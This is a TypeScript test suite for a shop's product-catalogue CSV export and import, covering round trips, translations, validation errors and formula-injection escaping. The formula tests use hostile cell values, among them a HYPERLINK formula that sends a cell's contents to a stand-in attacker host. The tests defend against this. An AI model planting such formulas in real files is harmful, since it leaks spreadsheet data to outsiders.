import { parse } from "csv-parse/sync";
import { testProduct } from "@/tests/fixtures/product";
import { CSV_COLUMNS, CSV_MAX_ROWS, catalogFieldsOf, parseCatalogCsv, toCatalogCsv, untranslatedRows } from "./csv";
import { changedFields } from "../products/schema";

const rich = catalogFieldsOf(
  testProduct("knitted-romper", {
    price: 2499,
    discount: 15,
    offerEnd: "2026-12-31T23:59:00.000Z",
    new: true,
    categories: ["clothing", "nursery"],
    tags: ["soft", "gift idea"],
    ageRange: { fromMonths: 0, toMonths: 6 },
    images: ["/img/a.jpg", "https://firebasestorage.googleapis.com/v0/b/x/o/b.jpg?alt=media&token=1,2"],
    variations: [
      { color: "white", image: "/img/w.jpg", size: [{ name: "S", stock: 3 }, { name: "M", stock: 0 }] },
      { color: "blue", image: "/img/b.jpg", size: [{ name: "S", stock: 1 }] },
    ],
    shortDescription: 'A "soft", warm romper, for cold days.',
    fullDescription: "Line one,\nline two with a comma, and \"quotes\".\n\nLast line.",
    translations: {
      fr: { name: "Barboteuse tricotée", shortDescription: "Une barboteuse « douce », chaude.", colors: { white: "Blanc", blue: "Bleu" }, sizes: { S: "P", M: "M" } },
      de: { name: "Gestrickter Strampler", fullDescription: "Zeile eins,\nZeile zwei." },
    },
  }),
);
const plain = catalogFieldsOf(testProduct("bath-duck"));

const header = CSV_COLUMNS.join(",");
const row = (cells: Partial<Record<(typeof CSV_COLUMNS)[number], string>>) =>
  CSV_COLUMNS.map((c) => cells[c] ?? { id: "bath-duck", sku: "DUCK", name: "Duck", price: "4.50", categories: "bath", images: "/img/d.jpg" }[c as string] ?? "").join(",");

test("a catalogue survives a round trip: quotes, commas, line breaks, lists, variations, money", () => {
  const csv = toCatalogCsv([rich, plain]); // the first row spans lines 2-6 (its descriptions have four line breaks)
  const parsed = parseCatalogCsv(csv);
  expect(parsed).toEqual({ ok: true, rows: [{ line: 2, fields: rich }, { line: 7, fields: plain }] });
});

describe("translations", () => {
  test("each language has its five columns after the English ones", () => {
    expect(CSV_COLUMNS.slice(-10)).toEqual([
      "name_fr", "short_description_fr", "full_description_fr", "color_labels_fr", "size_labels_fr",
      "name_de", "short_description_de", "full_description_de", "color_labels_de", "size_labels_de",
    ]);
    const cells = (parse(toCatalogCsv([rich])) as string[][])[1]!;
    expect(cells[CSV_COLUMNS.indexOf("name_de")]).toBe("Gestrickter Strampler");
    expect(JSON.parse(cells[CSV_COLUMNS.indexOf("color_labels_fr")]!)).toEqual({ white: "Blanc", blue: "Bleu" });
    expect(cells[CSV_COLUMNS.indexOf("short_description_de")]).toBe("");
  });

  test("a label of a colour the product does not have, or labels that are not JSON, are refused in their column", () => {
    const parsed = parseCatalogCsv(`${header}\n${row({ name_fr: "Canard" })}\n${row({ id: "b", color_labels_de: '"{""pink"":""Rosa""}"' })}\n${row({ id: "c", size_labels_fr: "S=P" })}\n`);
    expect(parsed).toEqual({
      ok: false,
      rowCount: 3,
      rowErrors: [
        { line: 3, column: "color_labels_de", problem: "invalid" },
        { line: 4, column: "size_labels_fr", problem: "invalid" },
      ],
    });
  });

  test("a stored label of a colour or size the product no longer has is left out of the file, so the file imports", () => {
    const stale = { ...rich, variations: [rich.variations[0]!], translations: { ...rich.translations, de: { sizes: { XL: "XL" } } } };
    const parsed = parseCatalogCsv(toCatalogCsv([stale]));
    if (!parsed.ok) throw new Error(JSON.stringify(parsed));
    expect(parsed.rows[0]!.fields.translations).toEqual({
      fr: { ...rich.translations.fr, colors: { white: "Blanc" } },
    });
  });

  test("the dry run's untranslated rows: every field still English, per language", () => {
    const parsed = parseCatalogCsv(toCatalogCsv([rich, plain]));
    if (!parsed.ok) throw new Error("the file should parse");
    expect(untranslatedRows(parsed.rows)).toEqual([
      { line: 2, id: "knitted-romper", name: rich.name, missing: { fr: ["fullDescription"], de: ["shortDescription", "colors", "sizes"] } },
      { line: 7, id: "bath-duck", name: plain.name, missing: { fr: ["name"], de: ["name"] } },
    ]);
  });
});

describe("formulas: a spreadsheet must not run a product's text", () => {
  // What a spreadsheet runs as a formula: a cell starting with = + - @, a tab or a carriage return.
  const RUNS = /^[=+\-@\t\r]/;
  const hostile = {
    ...plain,
    sku: "=1+1",
    name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    tags: ["+31 6 1234", "plain"],
    shortDescription: "-2+3",
    fullDescription: "@SUM(A1:A9)\nand more",
  };
  const cellsOf = (csv: string) => (parse(csv) as string[][])[1]!;
  const cellOf = (csv: string, column: (typeof CSV_COLUMNS)[number]) => cellsOf(csv)[CSV_COLUMNS.indexOf(column)]!;

  test("an export writes no cell that a spreadsheet would run: such a text gets a leading apostrophe", () => {
    const csv = toCatalogCsv([hostile]);
    expect(cellsOf(csv).filter((cell) => RUNS.test(cell))).toEqual([]);
    expect(cellOf(csv, "sku")).toBe("'=1+1");
    expect(cellOf(csv, "name")).toBe(`'${hostile.name}`);
    expect(cellOf(csv, "tags")).toBe("'+31 6 1234|plain");
    expect(cellOf(csv, "shortDescription")).toBe("'-2+3");
    expect(cellOf(csv, "fullDescription")).toBe("'@SUM(A1:A9)\nand more");
    for (const start of ["\t", "\r"]) expect(cellOf(toCatalogCsv([{ ...plain, fullDescription: `${start}x` }]), "fullDescription")).toBe(`'${start}x`);
  });

  test("the import takes the apostrophe off again: every text survives a round trip, one already starting with apostrophes too", () => {
    for (const product of [
      hostile,
      { ...plain, name: "'=already quoted", shortDescription: "''-two", fullDescription: "+ more" },
      { ...plain, name: "'Tis the season", shortDescription: "'", fullDescription: "it's -fine" },
    ]) {
      expect(parseCatalogCsv(toCatalogCsv([product]))).toEqual({ ok: true, rows: [{ line: 2, fields: product }] });
    }
    // Only a text that needed it is escaped: an apostrophe before anything else is the text's own.
    expect(cellOf(toCatalogCsv([{ ...plain, name: "'Tis the season" }]), "name")).toBe("'Tis the season");
  });

  test("a file edited by hand: '=x is read as the text =x, as a spreadsheet shows it", () => {
    const parsed = parseCatalogCsv(`${header}\n${row({ name: "'=x", sku: "'@home" })}\n`);
    expect(parsed.ok && parsed.rows[0]!.fields).toMatchObject({ name: "=x", sku: "@home" });
  });

  test("number columns are numbers: written as they are, never escaped, and an apostrophe there is no number", () => {
    const csv = toCatalogCsv([{ ...plain, price: 1250, discount: 5, stock: 0 }]);
    expect([cellOf(csv, "price"), cellOf(csv, "discount"), cellOf(csv, "stock")]).toEqual(["12.50", "5", "0"]);
    for (const [column, cell] of [["price", "'12.50"], ["stock", "'-1"], ["stock", "-1"], ["discount", "'5"]] as const) {
      expect([cell, parseCatalogCsv(`${header}\n${row({ [column]: cell })}\n`)]).toEqual([cell, { ok: false, rowCount: 1, rowErrors: [{ line: 2, column, problem: "invalid" }] }]);
    }
  });
});

test("prices are dollars with a dot; a spreadsheet's yes/no and blank cells are understood", () => {
  const parsed = parseCatalogCsv(`${header}\n${row({ price: "12.5", new: "YES", discount: "", stock: "" })}\n`);
  expect(parsed.ok && parsed.rows[0]!.fields).toMatchObject({ price: 1250, new: true, discount: 0, stock: 0, variations: [], tags: [] });
});

test("every bad cell of every row is reported by line and column, and no row is returned", () => {
  const csv = [
    header,
    row({ price: "12,99" }), // a comma inside an unquoted cell: one cell too many
  ].join("\n");
  expect(parseCatalogCsv(csv)).toMatchObject({ ok: false, fileError: { problem: "malformed" } });

  const bad = [
    header,
    row({ id: "Bad Id", price: "free", categories: "toys|nappies" }),
    row({ id: "ok-one" }),
    row({ id: "two", name: "", new: "maybe", variations: "[{not json" }),
    row({ id: "three", discount: "95", offerEnd: "tomorrow", images: "" }),
    row({ id: "four", images: "https://elsewhere.example/x.jpg", discount: "0", offerEnd: "2026-12-31T00:00:00Z", tags: "a|a" }),
    row({ id: "ok-one", sku: "OTHER" }),
    row({ id: "new" }),
  ].join("\n");
  const parsed = parseCatalogCsv(bad);
  expect(parsed).toEqual({
    ok: false,
    rowCount: 7,
    rowErrors: [
      { line: 2, column: "id", problem: "invalid" },
      { line: 2, column: "price", problem: "invalid" },
      { line: 2, column: "categories", problem: "invalid" },
      { line: 4, column: "name", problem: "required" },
      { line: 4, column: "new", problem: "invalid" },
      { line: 4, column: "variations", problem: "invalid" },
      { line: 5, column: "discount", problem: "invalid" },
      { line: 5, column: "offerEnd", problem: "invalid" },
      { line: 5, column: "images", problem: "required" },
      { line: 6, column: "images", problem: "invalid" },
      { line: 6, column: "tags", problem: "invalid" },
      { line: 6, column: "offerEnd", problem: "invalid" },
      { line: 7, column: "id", problem: "duplicate-id" },
      { line: 8, column: "id", problem: "invalid" },
    ],
  });
});

test("an age range is months as text: 0-6, 36+, empty for all ages; anything else is a clear error in its cell", () => {
  const fieldsOf = (ageRange: string) => {
    const parsed = parseCatalogCsv(`${header}\n${row({ ageRange })}\n`);
    return parsed.ok ? parsed.rows[0]!.fields.ageRange : parsed;
  };
  expect(fieldsOf("0-6")).toEqual({ fromMonths: 0, toMonths: 6 });
  expect(fieldsOf(" 12 - 24 ")).toEqual({ fromMonths: 12, toMonths: 24 });
  expect(fieldsOf("36+")).toEqual({ fromMonths: 36 });
  expect(fieldsOf("")).toBeUndefined();
  expect(toCatalogCsv([{ ...plain, ageRange: { fromMonths: 48 } }])).toContain(",48+,");
  for (const bad of ["6-3", "6-6", "abc", "0-500", "-1-3", "3 months", "1.5-3"]) {
    expect([bad, fieldsOf(bad)]).toEqual([bad, { ok: false, rowCount: 1, rowErrors: [{ line: 2, column: "ageRange", problem: "invalid" }] }]);
  }
});

test("variations must match the product schema (a size with a negative stock is refused)", () => {
  const variations = JSON.stringify([{ color: "red", image: "/i.jpg", size: [{ name: "S", stock: -1 }] }]).replaceAll('"', '""');
  expect(parseCatalogCsv(`${header}\n${row({ variations: `"${variations}"` })}`)).toMatchObject({
    ok: false,
    rowErrors: [{ line: 2, column: "variations", problem: "invalid" }],
  });
});

test("a file without the columns, empty, or too long is refused as a whole", () => {
  expect(parseCatalogCsv("id,name\nx,y")).toEqual({ ok: false, fileError: { problem: "columns", detail: expect.stringContaining("sku") } });
  expect(parseCatalogCsv(`${header},colour\n`)).toEqual({ ok: false, fileError: { problem: "columns", detail: "colour" } });
  expect(parseCatalogCsv("")).toEqual({ ok: false, fileError: { problem: "empty" } });
  expect(parseCatalogCsv(`${header}\n`)).toEqual({ ok: false, fileError: { problem: "empty" } });
  const many = [header, ...Array.from({ length: CSV_MAX_ROWS + 1 }, (_, i) => row({ id: `p-${i}` }))].join("\n");
  expect(parseCatalogCsv(many)).toEqual({ ok: false, fileError: { problem: "too-many-rows" } });
});


test("changedFields lists only what differs, before and after; a creation has every field", () => {
  expect(changedFields(plain, { ...plain })).toEqual({ before: {}, after: {} });
  expect(changedFields(plain, { ...plain, price: 999, tags: ["x"] })).toEqual({
    before: { price: 2000, tags: [] },
    after: { price: 999, tags: ["x"] },
  });
  expect(changedFields(null, plain)).toMatchObject({ before: null, after: { price: 2000, sku: plain.sku, offerEnd: null, ageRange: null } });
  // The age range is an edited field: setting, changing and clearing it is seen.
  expect(changedFields(plain, { ...plain, ageRange: { fromMonths: 0, toMonths: 3 } })).toEqual({ before: { ageRange: null }, after: { ageRange: { fromMonths: 0, toMonths: 3 } } });
  expect(changedFields({ ...plain, ageRange: { fromMonths: 0, toMonths: 3 } }, { ...plain, ageRange: undefined })).toEqual({ before: { ageRange: { fromMonths: 0, toMonths: 3 } }, after: { ageRange: null } });
});
